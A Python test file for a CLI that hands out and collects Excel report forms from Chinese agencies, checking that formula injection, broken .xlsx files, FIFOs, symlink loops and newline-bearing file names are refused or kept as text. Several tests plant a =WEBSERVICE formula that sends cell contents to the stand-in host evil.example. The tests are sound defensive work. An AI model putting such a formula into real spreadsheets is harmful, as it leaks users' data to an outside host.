"""Hostile and broken Excel forms (issue 24), run as a clerk runs them: the CLI in a process.

- Formula injection: a category named `=WEBSERVICE(…)` is written into the form as text; the only
  formulas of a form are its own totals; a formula typed into an input cell is placed by collect (it is
  the clerk's file) and named by `make check`; no formula is evaluated.
- Broken or hostile .xlsx files (`tests/hostile_xlsx.py`): one Chinese message naming the file and the
  part, for `make check` and for `make collect`, which refuses them and exits non-zero.
- `make collect` lists every file it skips and why; skipped files do not change its exit status; a folder
  with no form at all is an error.

Each run ends within a minute (a hang or a memory blow-up fails it), prints no traceback, and leaves
`data/`, `params/`, `notebooks/` and `output/` as they were but for what it should place or record.
"""

from __future__ import annotations

import io
import os
import re
import shutil
import subprocess
from pathlib import Path

import openpyxl
import pytest

from nianbao.forms.hand_out import form_format, write_form
from nianbao.inputs.load import load_any_year
from nianbao.inputs.sheet_layout import META_SHEET, workbook_layout
from nianbao.paths import Project
from tests.conftest import run_cli
from tests.functional.test_hostile_input import entries
from tests.hostile_xlsx import CASES, Case, oversized

FORM = "data/shili/2026/figures.xlsx"  # a year not on file: collect may place it
CHECK_RECORD = "output/shili"  # where `make check` records what it found
HOSTILE_NAMES = {  # category names that a spreadsheet would take for formulas
    "机构职能": '"=WEBSERVICE(\\"http://evil.example/\\"&B4)"',
    "规划计划": '"+规划计划"',
    "工作动态": '"-工作动态"',
    "其它": '"@其它"',
}


run = run_cli  # the one way these tests run the command line (tests/conftest.py)


def blank_form(root: Path) -> bytes:
    """The form handed out for shili's 2026 (pre-filled with what 2025 carries over)."""
    form = write_form(Project(root), "shili", 2026)
    data = form.read_bytes()
    form.unlink()
    return data


def without(found: dict[str, object], *names: str) -> dict[str, object]:
    """`found` but the entries `names` and what is under them."""
    return {
        name: value
        for name, value in found.items()
        if not any(name == n or name.startswith(f"{n}/") for n in names)
    }


# ---------------------------------------------------------------- formulas


def hostile_categories(root: Path) -> None:
    figures = root / "data/minzheng/2017/figures.yaml"
    text = figures.read_text(encoding="utf-8")
    for name, quoted in HOSTILE_NAMES.items():
        assert text.count(f"    {name}: ") == 1
        text = text.replace(f"    {name}: ", f"    {quoted}: ")
    figures.write_text(text, encoding="utf-8")


def formulas(book: openpyxl.Workbook) -> dict[str, dict[str, str]]:
    """Every formula in every sheet of a form, by sheet and cell."""
    return {
        sheet.title: {
            cell.coordinate: cell.value for row in sheet.iter_rows() for cell in row if cell.data_type == "f"
        }
        for sheet in book.worksheets
    }


def test_text_from_data_is_written_as_text_and_the_only_formulas_are_the_totals(project_dir: Path) -> None:
    hostile_categories(project_dir)
    first = run(project_dir, "workbook", "minzheng", "2017")
    assert first.returncode == 0, first.stderr
    form = project_dir / "output/workbooks/minzheng-2017.xlsx"
    written = form.read_bytes()
    assert run(project_dir, "workbook", "minzheng", "2017").returncode == 0
    assert form.read_bytes() == written  # reproducible, escaped or not

    book = openpyxl.load_workbook(io.BytesIO(written))
    totals = {
        sheet.name: {slot.ref: f"=SUM({','.join(slot.parts)})" for slot in sheet.slots if slot.computed}
        for sheet in workbook_layout(form_format(2017), 2017)
    }
    assert formulas(book) == {**totals, META_SHEET: {}}
    names = {cell.value: cell for (cell,) in book["类别"]["A4:A8"]}
    for name in ('=WEBSERVICE("http://evil.example/"&B4)', "+规划计划", "-工作动态", "@其它"):
        assert names[name].data_type == "s"
        assert names[name].quotePrefix  # Excel keeps it text when the clerk edits the cell


def test_a_form_with_hostile_names_reads_them_back_as_text(project_dir: Path) -> None:
    hostile_categories(project_dir)
    assert run(project_dir, "workbook", "minzheng", "2017").returncode == 0
    before = load_any_year(Project(project_dir), "minzheng", 2017)
    (project_dir / "data/minzheng/2017/figures.yaml").unlink()
    shutil.copy(
        project_dir / "output/workbooks/minzheng-2017.xlsx", project_dir / "data/minzheng/2017/figures.xlsx"
    )
    done = run(project_dir, "check", "--agency", "minzheng", "--year", "2017")
    assert done.returncode == 0, done.stderr
    assert done.stdout.splitlines()[-1] == "通过 / ok: minzheng 2017"
    assert load_any_year(Project(project_dir), "minzheng", 2017).categories == before.categories


def test_check_names_a_formula_in_an_input_cell_and_never_evaluates_one(project_dir: Path) -> None:
    assert run(project_dir, "workbook", "minzheng", "2017").returncode == 0
    (project_dir / "data/minzheng/2017/figures.yaml").unlink()
    form = project_dir / "data/minzheng/2017/figures.xlsx"
    book = openpyxl.load_workbook(project_dir / "output/workbooks/minzheng-2017.xlsx")
    name, website = book["类别"]["A4"].value, book["附表"]["C5"].value
    book["类别"]["A4"] = '=WEBSERVICE("http://evil.example/"&B4)'
    book["附表"]["C5"] = "=1+1"
    book["附表"]["C4"] = '=WEBSERVICE("http://evil.example/")'  # a total: computed, the formula ignored
    book.save(form)
    before = entries(project_dir)

    done = run(project_dir, "check", "--agency", "minzheng", "--year", "2017")

    assert done.returncode == 1
    assert "Traceback" not in done.stderr
    assert done.stderr.splitlines()[:2] == [
        "错误：minzheng 2017：data/minzheng/2017/figures.xlsx: 类别!A4（“类别”列，“第 1 类”行）："
        '填的是公式 "=WEBSERVICE("http://evil.example/"&B4)"；这一格请直接填写类别名称（文字）',
        '  附表!C5（“2017”列，“其中：1.政府网站公开数”行）：填的是公式 "=1+1"；这一格请直接填数字',
    ]
    assert without(entries(project_dir), "output/minzheng") == without(before, "output/minzheng")  # a record
    book["类别"]["A4"], book["附表"]["C5"] = name, website  # the clerk fixes the two cells
    book.save(form)
    done = run(project_dir, "check", "--agency", "minzheng", "--year", "2017")
    assert done.returncode == 0, done.stderr  # the total typed as a formula is computed, not evaluated
    assert done.stdout.splitlines()[-1] == "通过 / ok: minzheng 2017"


def test_collect_places_a_form_with_a_formula_in_an_input_cell(project_dir: Path, tmp_path: Path) -> None:
    returned = tmp_path / "returned"
    returned.mkdir()
    (returned / "示例局.xlsx").write_bytes(blank_form(project_dir))
    book = openpyxl.load_workbook(returned / "示例局.xlsx")
    book["表三"]["D8"] = "=10+9"
    book.save(returned / "示例局.xlsx")
    before = entries(project_dir)

    done = run(project_dir, "collect", str(returned))

    assert done.returncode == 0, done.stderr
    assert done.stdout.splitlines()[0].startswith(f"已放置 / placed: 示例局.xlsx → {FORM}：还有 ")
    assert (project_dir / FORM).read_bytes() == (returned / "示例局.xlsx").read_bytes()
    assert without(entries(project_dir), FORM, "data/shili/2026") == before
    checked = run(project_dir, "check", "--agency", "shili", "--year", "2026")
    assert (
        '  表三!D8（“自然人”列，“（一）予以公开”行）：填的是公式 "=10+9"；这一格请直接填数字'
        in checked.stderr.splitlines()
    )


# ---------------------------------------------------------------- broken and hostile files


@pytest.mark.parametrize("case", CASES, ids=[case.id for case in CASES])
def test_check_gives_one_message_naming_the_file_and_part(case: Case, project_dir: Path) -> None:
    hostile = case.make(blank_form(project_dir))
    (project_dir / FORM).parent.mkdir()
    (project_dir / FORM).write_bytes(hostile)
    shutil.copy(project_dir / "data/shili/2025/narrative.md", project_dir / "data/shili/2026/narrative.md")
    before = entries(project_dir)

    done = run(project_dir, "check", "--agency", "shili", "--year", "2026")

    assert done.returncode == 1, done.stdout
    assert "Traceback" not in done.stderr
    assert done.stderr.splitlines()[0] == f"错误：shili 2026：{FORM}: {case.message}"
    assert without(entries(project_dir), CHECK_RECORD) == without(before, CHECK_RECORD)


def test_collect_refuses_every_broken_or_hostile_form_and_places_the_good_one(
    project_dir: Path, tmp_path: Path
) -> None:
    returned = tmp_path / "returned"
    returned.mkdir()
    good = blank_form(project_dir)
    (returned / "示例局.xlsx").write_bytes(good)
    for case in CASES:
        (returned / f"{case.id}.xlsx").write_bytes(case.make(good))
    before = entries(project_dir)

    done = run(project_dir, "collect", str(returned))

    assert done.returncode == 1  # a refused form is the clerk's to fix
    assert "Traceback" not in done.stderr
    assert done.stdout.splitlines() == [
        placed_line(done),
        f"放置了 1 份，未放置 {len(CASES)} 份。",
    ]
    assert done.stderr.splitlines() == [
        f"未放置 / refused: {case.id}.xlsx：{case.message}" for case in sorted(CASES, key=lambda c: c.id)
    ]
    assert (project_dir / FORM).read_bytes() == good
    assert without(entries(project_dir), FORM, "data/shili/2026") == before


def placed_line(done: subprocess.CompletedProcess[str]) -> str:
    """The line saying the good form was placed, with how many of its cells are still to fill."""
    found = re.search(r"还有 (\d+) 格", done.stdout)
    assert found, done.stdout
    return f"已放置 / placed: 示例局.xlsx → {FORM}：还有 {found[1]} 格空着或填写有误，make check 逐格列出"


# ---------------------------------------------------------------- what collect skips


def skipped_files(folder: Path) -> dict[str, str]:
    """A file of each kind collect skips, made in `folder`, with why it is skipped."""
    (folder / "~$示例局.xlsx").write_bytes(b"\x08clerk")
    (folder / "示例局.ods").write_bytes(b"PK\x03\x04")
    (folder / "示例局.xls").write_bytes(b"\xd0\xcf\x11\xe0")
    (folder / "说明.txt").write_text("见附件", encoding="utf-8")
    (folder / "文件夹.xlsx").mkdir()
    (folder / "循环.xlsx").symlink_to("循环.xlsx")
    os.mkfifo(folder / "管道.xlsx")
    return {
        "~$示例局.xlsx": "是 Excel / WPS 打开文件时留下的锁文件，不是填报表",
        "循环.xlsx": "这是一个循环链接：它最终指回自己，无法读取",
        "文件夹.xlsx": "这是一个文件夹，不是文件",
        "示例局.ods": "是 OpenDocument 表格，请另存为 .xlsx",
        "示例局.xls": "是旧版 Excel 97-2003 工作簿，请另存为 .xlsx",
        "管道.xlsx": "这不是普通文件（是设备、管道或套接字），不能读取",
        "说明.txt": "不是 .xlsx 或 .docx 填报表",
    }


def test_collect_lists_what_it_skips_and_skipping_is_no_failure(project_dir: Path, tmp_path: Path) -> None:
    returned = tmp_path / "returned"
    returned.mkdir()
    good = blank_form(project_dir)
    (returned / "示例局.xlsx").write_bytes(good)
    (returned / "大.xlsx").write_bytes(oversized(good))
    skipped = {**skipped_files(returned), "大.xlsx": "文件太大：超过 5 MB，不像是数据文件"}
    before = entries(project_dir)

    done = run(project_dir, "collect", str(returned))

    assert done.returncode == 0, done.stderr
    assert done.stderr == ""
    lines = done.stdout.splitlines()
    assert lines[: len(skipped)] == [
        f"跳过 / skipped: {name}：{why}" for name, why in sorted(skipped.items())
    ]
    assert lines[len(skipped) :] == [
        placed_line(done),
        f"放置了 1 份，未放置 0 份，跳过 {len(skipped)} 个不是填报表的文件。",
    ]
    assert (project_dir / FORM).read_bytes() == good
    assert without(entries(project_dir), FORM, "data/shili/2026") == before


@pytest.mark.parametrize("kind", ["only-skipped", "empty"])
def test_a_folder_without_a_form_is_an_error(project_dir: Path, tmp_path: Path, kind: str) -> None:
    returned = tmp_path / "returned"
    returned.mkdir()
    skipped = skipped_files(returned) if kind == "only-skipped" else {}
    before = entries(project_dir)

    done = run(project_dir, "collect", str(returned))

    assert done.returncode == 1
    assert done.stdout.splitlines() == [
        f"跳过 / skipped: {name}：{why}" for name, why in sorted(skipped.items())
    ]
    assert (
        done.stderr.splitlines()[0]
        == f"错误：文件夹 {returned} 中没有可以放置的填报表（.xlsx 或 .docx 文件）"
    )
    assert entries(project_dir) == before


def test_a_name_cannot_print_a_line_of_its_own(project_dir: Path, tmp_path: Path) -> None:
    returned = tmp_path / "returned"
    returned.mkdir()
    (returned / "a\n已放置 placed：x.txt").write_bytes(b"")
    (returned / b"\xff\xfe.xlsx".decode(errors="surrogateescape")).write_bytes(b"not a zip")

    done = run(project_dir, "collect", str(returned))

    assert done.returncode == 1
    assert done.stdout.splitlines() == [
        "跳过 / skipped: a\\u000a已放置 placed：x.txt：不是 .xlsx 或 .docx 填报表",
        "放置了 0 份，未放置 1 份，跳过 1 个不是填报表的文件。",
    ]
    assert (
        done.stderr.splitlines()[0]
        == "未放置 / refused: \\udcff\\udcfe.xlsx：不是 Excel 工作簿（.xlsx），无法读取"
    )


def test_check_names_a_cell_holding_a_character_no_report_can_carry(project_dir: Path) -> None:
    """A form's text cell is read like a file's line (`inputs/printable.py`): a C1 control or a
    noncharacter pasted into a category name is named by its cell, not first met by the PDF."""
    assert run(project_dir, "workbook", "minzheng", "2017").returncode == 0
    (project_dir / "data/minzheng/2017/figures.yaml").unlink()
    book = openpyxl.load_workbook(project_dir / "output/workbooks/minzheng-2017.xlsx")
    book["类别"]["A4"] = "机构\x85职能"
    book["类别"]["A5"] = "规划\ufdd0计划"
    book.save(project_dir / "data/minzheng/2017/figures.xlsx")

    done = run(project_dir, "check", "--agency", "minzheng", "--year", "2017")

    assert done.returncode == 1
    assert "Traceback" not in done.stderr
    assert done.stderr.splitlines()[:2] == [
        "错误：minzheng 2017：data/minzheng/2017/figures.xlsx: 类别!A4（“类别”列，“第 1 类”行）："
        "含有不可打印的控制字符 U+0085，在“机构”之后；报告（网页、PDF、Word）中不能有这种字符",
        "  类别!A5（“类别”列，“第 2 类”行）：含有非字符 U+FDD0（Unicode 中不表示任何文字的码位），"
        "在“规划”之后；报告（网页、PDF、Word）中不能有这种字符",
    ]


def test_collect_never_waits_on_a_fifo_where_the_years_form_would_go(
    project_dir: Path, tmp_path: Path
) -> None:
    """A FIFO named figures.xlsx in the year's folder is "something a person put there": refused, at once."""
    returned = tmp_path / "收回"
    returned.mkdir()
    (returned / "示例局2026.xlsx").write_bytes(blank_form(project_dir))
    (project_dir / "data/shili/2026").mkdir(parents=True)
    os.mkfifo(project_dir / "data/shili/2026/figures.xlsx")

    done = run(project_dir, "collect", str(returned))  # times out (fails) should it wait

    assert done.returncode == 1
    assert "Traceback" not in done.stderr
    assert "未放置 / refused: 示例局2026.xlsx：" in done.stderr
